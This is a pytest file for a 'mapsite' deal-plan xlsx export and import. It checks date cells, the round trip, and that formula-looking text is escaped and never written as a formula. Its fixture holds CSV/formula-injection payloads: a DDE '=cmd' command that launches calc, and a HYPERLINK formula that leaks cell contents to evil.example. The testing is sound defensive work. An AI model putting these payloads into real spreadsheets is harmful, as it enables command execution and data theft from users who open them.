"""mapsite export --format xlsx (issue 14): the plan as a workbook a rep opens, and imports back.

Each export runs in a real process and the workbook is opened with openpyxl, as Excel would
read it: text cells stay text (never a formula), due dates are date cells.
"""

from __future__ import annotations

import datetime as dt

import openpyxl

from mapsite.pipeline.load import load_deals
from mapsite.read.site import load_site
from tests.helpers import TODAY, run

HEADER = [
    "Id", "Phase", "Milestone", "Owner (Customer)", "Owner (Vendor)", "Due Date", "Status",
    "Dependencies", "Notes",
]  # fmt: skip
HOSTILE_DEAL = """\
---
title: Hostile Co x Northwind
buyer: {name: Hostile Co, accent: "#0A66C2"}
close_date: 2027-04-30
updated: 2027-02-20
access:
  - {label: Buying team, password_env: TEST_PORTAL_PASSWORD}
value_summary: Hostile Co tests every cell.
stakeholders:
  - {id: eb, name: "=cmd|' -c calc'!A0", side: buyer, role: economic_buyer}
  - {id: ae, name: Sam Carter, side: seller, role: account_executive}
milestones:
  - {phase: "+SUM(1+1)", id: one, name: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")', owners: [eb, ae], due: 2027-03-01, notes: "@SUM(1+1)"}
  - {phase: Close, id: signature, name: Contract Signature, owners: [eb], due: close, depends_on: [one], notes: "-5"}
---
The plan.
"""


def rows_of(path) -> list[tuple]:
    sheet = openpyxl.load_workbook(path).active
    return [tuple(cell.value for cell in row) for row in sheet.iter_rows()]


def test_xlsx_export_is_a_workbook_with_the_csv_columns_and_date_cells(example_site, tmp_path):
    out = tmp_path / "acme-plan.xlsx"
    result = run("export", "acme", "--format", "xlsx", "--out", str(out), "--site", str(example_site))
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == f"Wrote the plan of acme (15 milestones) to {out}."
    workbook = openpyxl.load_workbook(out)
    sheet = workbook.active
    assert sheet.title == "Plan"
    header, *rows = rows_of(out)
    assert list(header) == HEADER
    assert len(rows) == 15
    signature = next(row for row in rows if row[0] == "signature")
    assert signature == (
        "signature", "Close", "Contract Signature", "Raj Patel (CFO)", "Tom Reyes (VP Sales)",
        dt.datetime(2027, 4, 30), "Pending", "Legal Review Complete; Security Review Complete", None,
    )  # fmt: skip
    assert sheet["F2"].is_date and sheet["F2"].number_format == "yyyy-mm-dd"


def test_xlsx_export_without_out_is_a_usage_error(example_site):
    result = run("export", "acme", "--format", "xlsx", "--site", str(example_site))
    assert result.returncode == 2
    assert result.stdout == ""
    assert result.stderr.endswith("Error: a workbook cannot be shown in the terminal: add --out acme.xlsx\n")


def test_xlsx_export_never_writes_a_formula(site_factory, tmp_path):
    site = site_factory.make({"hostile-co.md": HOSTILE_DEAL})
    out = tmp_path / "hostile.xlsx"
    result = run("export", "hostile-co", "--format", "xlsx", "--out", str(out), "--site", str(site))
    assert result.returncode == 0, result.stderr
    sheet = openpyxl.load_workbook(out).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    _header, one, signature = rows_of(out)
    assert one[1:5] == (
        "'+SUM(1+1)",
        '\'=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
        "'=cmd|' -c calc'!A0",
        "Sam Carter",
    )
    assert one[8] == "'@SUM(1+1)"
    assert signature[8] == "-5"  # a plain number is a value, not a formula


def test_xlsx_export_then_import_round_trips_the_plan(example_site, tmp_path):
    out = tmp_path / "acme-plan.xlsx"
    exported = run("export", "acme", "--format", "xlsx", "--out", str(out), "--site", str(example_site))
    assert exported.returncode == 0, exported.stderr
    imported = run(
        "import", str(out), "--slug", "round-trip", "--buyer", "Acme Corp", "--site", str(example_site)
    )
    assert imported.returncode == 0, imported.stderr
    assert (
        "Read 15 rows of acme-plan.xlsx (Excel workbook): 15 milestones, 0 rows skipped." in imported.stdout
    )
    checked = run("check", "--site", str(example_site), "--today", TODAY)
    assert checked.returncode == 0 and "Checked 4 deals: 0 errors," in checked.stdout

    deals = load_deals(load_site(example_site)[0], dt.date(2027, 2, 22)).deals
    original, copy = (next(d for d in deals if d.slug == slug) for slug in ("acme", "round-trip"))

    def plan(deal):
        return [
            (
                m.id,
                m.phase,
                m.name,
                m.due,
                m.status,
                m.notes,
                m.depends_on,
                [(p.name, p.title, p.side) for p in map(deal.stakeholder, m.owners)],
            )
            for m in deal.milestones
        ]

    assert plan(copy) == plan(original)
    assert copy.close_date == original.close_date


def test_a_hostile_plan_survives_xlsx_export_and_import_as_written(site_factory, tmp_path):
    site = site_factory.make({"hostile-co.md": HOSTILE_DEAL})
    out = tmp_path / "hostile.xlsx"
    assert (
        run("export", "hostile-co", "--format", "xlsx", "--out", str(out), "--site", str(site)).returncode
        == 0
    )
    imported = run("import", str(out), "--slug", "copy", "--buyer", "Copy Co", "--site", str(site))
    assert imported.returncode == 0, imported.stderr
    deals = load_deals(load_site(site)[0], dt.date(2027, 2, 22)).deals
    copy = next(d for d in deals if d.slug == "copy")
    one = copy.milestones[0]
    assert (one.phase, one.name, one.notes) == (
        "+SUM(1+1)",
        '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
        "@SUM(1+1)",
    )
    assert sorted(p.name for p in map(copy.stakeholder, one.owners)) == ["=cmd|' -c calc'!A0", "Sam Carter"]
